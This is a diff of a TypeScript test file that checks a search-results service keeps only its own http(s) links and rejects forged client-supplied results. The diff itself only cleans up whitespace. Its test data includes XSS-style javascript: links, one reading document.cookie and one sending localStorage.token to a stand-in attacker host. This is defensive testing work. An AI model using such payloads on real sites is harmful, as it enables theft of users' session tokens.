@@ -8,15 +8,15 @@ const RANKINGS = ['grinders.com', 'javascript:alert(document.cookie)', 'beans.or
 
 let serper: SerperServer;
 let app: SerperApp;
-beforeAll(async () => { 
+beforeAll(async () => {
   app = await startSerperApp({ serper: { rankings: { [QUERY]: RANKINGS } }, env: { SERPER_API_KEY: 'serper-test-key' } });
   serper = app.serper;
 });
-afterAll(async () => { 
+afterAll(async () => {
   await app.close();
 });
 
-const keywordSearchesUsed = async (userId: string): Promise<number> => { 
+const keywordSearchesUsed = async (userId: string): Promise<number> => {
   const rows = await app.database.orm.em
     .fork()
     .getConnection()
@@ -32,15 +32,15 @@ const webLinks = [
   { position: 5, link: 'https://espresso.net/coffee%20grinder', domain: 'espresso.net' },
 ];
 
-describe('saved SERP analyses hold the server’s own results', () => { 
-  it('shows only http(s) results of a search', async () => { 
+describe('saved SERP analyses hold the server’s own results', () => {
+  it('shows only http(s) results of a search', async () => {
     const user = await signUpUser(app.url);
     const analysis = await graphql(app.url, run, { input: { query: QUERY, num: 10 } }, user.token);
     expect(analysis.errors).toBeUndefined();
     expect(analysis.data.runSerpAnalysis.results).toEqual(webLinks.map((link) => expect.objectContaining(link)));
   });
 
-  it('refuses results, a source or a provider sent by the client, and stores the server’s answer to the query', async () => { 
+  it('refuses results, a source or a provider sent by the client, and stores the server’s answer to the query', async () => {
     const user = await signUpUser(app.url);
     const analysis = await graphql(app.url, run, { input: { query: QUERY, num: 10 } }, user.token);
     expect(analysis.errors).toBeUndefined();
@@ -50,8 +50,8 @@ describe('saved SERP analyses hold the server’s own results', () => {
     const forged = await graphql(
       app.url,
       save,
-      { 
-        input: { 
+      {
+        input: {
           description: 'Forged',
           analysis: { query: QUERY, num: 10 },
           results: [{ position: 1, title: 'Click me', snippet: 'Totally real', link: 'javascript:fetch("https://evil.example/?"+localStorage.token)', domain: 'grinders.com', date: null }],
@@ -77,17 +77,17 @@ describe('saved SERP analyses hold the server’s own results', () => {
     expect(listed.data.savedSerpAnalyses).toEqual([{ source: 'LIVE', provider: 'serper', results: webLinks.map(({ link }) => ({ link })) }]);
   });
 
-  it('searches again, for one keyword search, when the answer is no longer cached', async () => { 
+  it('searches again, for one keyword search, when the answer is no longer cached', async () => {
     const user = await signUpUser(app.url);
-    const query = `grinder ${ Date.now()}`;
+    const query = `grinder ${Date.now()}`;
     serper.setRankings({ [QUERY]: RANKINGS, [query]: ['burr.com', 'javascript:void(0)', 'blade.com'] });
     const searches = serper.requests.length;
 
     const saved = await graphql(app.url, save, { input: { description: 'Never ran it', analysis: { query, num: 10 } } }, user.token);
     expect(saved.errors).toBeUndefined();
     expect(saved.data.saveSerpAnalysis.results.map((result: { link: string }) => result.link)).toEqual([
-      `https://burr.com/${ encodeURIComponent(query)}`,
-      `https://blade.com/${ encodeURIComponent(query)}`,
+      `https://burr.com/${encodeURIComponent(query)}`,
+      `https://blade.com/${encodeURIComponent(query)}`,
     ]);
     expect(serper.requests.length).toBe(searches + 1);
     expect(await keywordSearchesUsed(user.id)).toBe(1);
